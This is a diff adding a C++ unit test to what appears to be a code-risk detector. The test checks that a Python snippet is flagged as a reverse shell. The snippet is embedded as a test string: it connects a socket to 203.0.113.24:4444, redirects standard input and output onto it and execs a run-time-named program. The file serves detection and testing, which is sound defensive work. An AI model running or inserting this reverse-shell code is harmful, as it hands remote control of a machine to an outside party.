@@ -383,5 +383,21 @@ TEST(EightiethRoundClasses, AKeyHandedToALocalServiceStaysOnTheMachine) {
   for (const auto& c : cases) check(c);
 }
 
+// Once standard input and output are a connected socket (os.dup2), a
+// program known only at run time that is exec'd in the process may be a
+// shell: a reverse shell, whatever settings named it. A known program that
+// is not a shell is judged as before.
+TEST(EightiethRoundClasses, AnUnknownProgramOnASocketsStdioMayBeAShell) {
+  const char* head =
+      "import os, socket, sys\n"
+      "conn = socket.create_connection(('203.0.113.24', 4444), timeout=10)\n"
+      "for target in (0, 1, 2):\n"
+      "    os.dup2(conn.fileno(), target)\n";
+  const std::string unknown = std::string(head) + "console = sys.argv[1].split()\nos.execvp(console[0], console)\n";
+  const std::string known = std::string(head) + "os.execvp('sftp-server', ['sftp-server'])\n";
+  check(Case{"a console named at run time", B, unknown.c_str(), "REVERSE-SHELL"});
+  EXPECT_FALSE(has_rule(py(known), "REVERSE-SHELL")) << describe(py(known));
+}
+
 }  // namespace
 }  // namespace mai::assess::test
